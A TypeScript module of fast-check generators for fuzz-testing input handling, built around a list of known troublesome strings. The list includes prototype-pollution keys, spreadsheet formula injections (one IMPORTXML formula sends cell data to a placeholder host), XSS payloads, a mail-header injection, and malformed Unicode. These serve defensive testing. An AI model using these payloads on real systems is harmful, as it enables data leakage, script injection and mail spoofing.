import * as fc from 'fast-check';

/** Texts that have broken spreadsheets, scripts, pages and mails before. */
export const TRAPS: readonly string[] = [
  // Names that every object has.
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  // What a cell runs as a formula, or reads as something else.
  '=1+1',
  '=IMPORTXML("http://x.example/?"&A1,"//a")',
  '+A1',
  '-SUM(A1:A9)',
  '@SUM(1)',
  '\t=1+1',
  "'=1+1",
  '#REF!',
  '#N/A',
  'TRUE',
  '007',
  '3-4',
  '1e999',
  '1e308',
  '-1e308',
  '9'.repeat(400),
  '0x10',
  'NaN',
  'Infinity',
  '１２３',
  // Days that are none.
  '0000-00-00',
  '0000-01-01',
  '2026-02-30',
  '9999-12-31',
  '10000-01-01',
  '1899-12-30',
  '2026-02-02T24:00:00',
  '31/02/26',
  // What a page or a mail would show as a page, or read as a header.
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</script><!--',
  'Bcc: all@example.com\r\nSubject: hello',
  '{{deal}}{{',
  '%00',
  'javascript:alert(1)',
  // Characters that are not what they seem.
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff\ud800',
  '\u202eevil\u202c',
  '\u200f\u200b\ufeff',
  '\u2028\u2029',
  'ｄｅａｌ',
  'İ',
  'ß',
  '👩‍👩‍👧‍👦',
  // Much of it.
  'x'.repeat(60_000),
  ' '.repeat(5_000),
  '('.repeat(2_000),
  `${'a@'.repeat(3_000)}`,
  `${'1,'.repeat(3_000)}`,
  'a\n'.repeat(2_000),
  // Nothing of it.
  '',
  ' ',
  '\n',
  // Separators and quotes.
  ',',
  ';',
  '"',
  '"unclosed',
  'b1x999999',
  'b0x0',
  '@',
  '!',
  'funnel!1:1',
  'forecast!99999999:-1',
];

export const aTrap = fc.constantFrom(...TRAPS);

/** Text of any kind; seldom long. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: aTrap },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc.tuple(aTrap, aTrap).map(([a, b]) => a.slice(0, 200) + b.slice(0, 200)),
  },
);

export const anyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, 1, -1, 0.1, 1e21, 1e308, -1e308, 5e-324, 2 ** 53, -(2 ** 31), 45_000.5),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** What a cell may hold when somebody else filled it. */
export const anyCell: fc.Arbitrary<string | number | boolean> = fc.oneof(
  { weight: 4, arbitrary: anyText },
  { weight: 2, arbitrary: anyNumber },
  { weight: 1, arbitrary: fc.boolean() },
);

const key = fc.oneof(
  anyText.map((text) => text.slice(0, 100)),
  fc.string({ maxLength: 8 }),
);

function object(value: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  // From entries, so that `__proto__` is a property like any other, as JSON.parse makes it.
  return fc.array(fc.tuple(key, value), { maxLength: 4 }).map((pairs) => {
    const made = Object.fromEntries(pairs);
    for (const [name, inner] of pairs) {
      Object.defineProperty(made, name, { value: inner, enumerable: true, configurable: true });
    }
    return made;
  });
}

/** Any value that JSON can carry. */
export const anyValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 3 },
    fc.constant(null),
    fc.boolean(),
    anyNumber,
    anyText,
    fc.array(tie('value'), { maxLength: 4 }),
    object(tie('value')),
  ),
})).value;

/** JSON text of something inside something, very often. */
export const nested: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(50, 2_000, 20_000), fc.constantFrom('[', '{"facts":', '{"ids":['))
  .map(([depth, open]) => {
    const close = [...open].reverse().map((sign) => (sign === '[' ? ']' : sign === '{' ? '}' : ''));
    return `${open.repeat(depth)}0${close.join('').repeat(depth)}`;
  });

/** How a good value is spoilt: at a place that numbers choose, because the value is not known yet. */
export interface Spoiling {
  readonly at: number;
  readonly how: 'replace' | 'remove' | 'add' | 'wrap' | 'repeat';
  readonly with: unknown;
  readonly name: string;
}

export const aSpoiling: fc.Arbitrary<Spoiling> = fc.record({
  at: fc.nat(1_000),
  how: fc.constantFrom('replace', 'replace', 'replace', 'remove', 'add', 'wrap', 'repeat'),
  with: anyValue,
  name: key,
});

type Path = readonly (string | number)[];

function pathsIn(value: unknown, path: Path = []): Path[] {
  if (typeof value !== 'object' || value === null) return [path];
  return [
    path,
    ...Object.entries(value).flatMap(([name, inner]) => pathsIn(inner, [...path, name])),
  ];
}

/** The value with one thing in it spoilt. */
export function spoilt(value: unknown, spoiling: Spoiling): unknown {
  const paths = pathsIn(value);
  const path = paths[spoiling.at % paths.length] ?? [];
  return changedAt(value, path, spoiling);
}

function changedAt(value: unknown, path: Path, spoiling: Spoiling): unknown {
  const [first, ...rest] = path;
  if (first === undefined) return changed(value, spoiling);
  const isList = Array.isArray(value);
  const pairs = Object.entries(value as object).flatMap(([name, inner]): [string, unknown][] => {
    if (name !== first) return [[name, inner]];
    if (rest.length === 0 && spoiling.how === 'remove') return [];
    return [[name, changedAt(inner, rest, spoiling)]];
  });
  return isList ? pairs.map(([, inner]) => inner) : Object.fromEntries(pairs);
}

function changed(value: unknown, { how, with: other, name }: Spoiling): unknown {
  if (how === 'wrap') return [value];
  if (how === 'repeat') return Array.from({ length: 30 }, () => value);
  if (how === 'add' && typeof value === 'object' && value !== null && !Array.isArray(value)) {
    return Object.defineProperty({ ...value }, name, { value: other, enumerable: true });
  }
  return other;
}
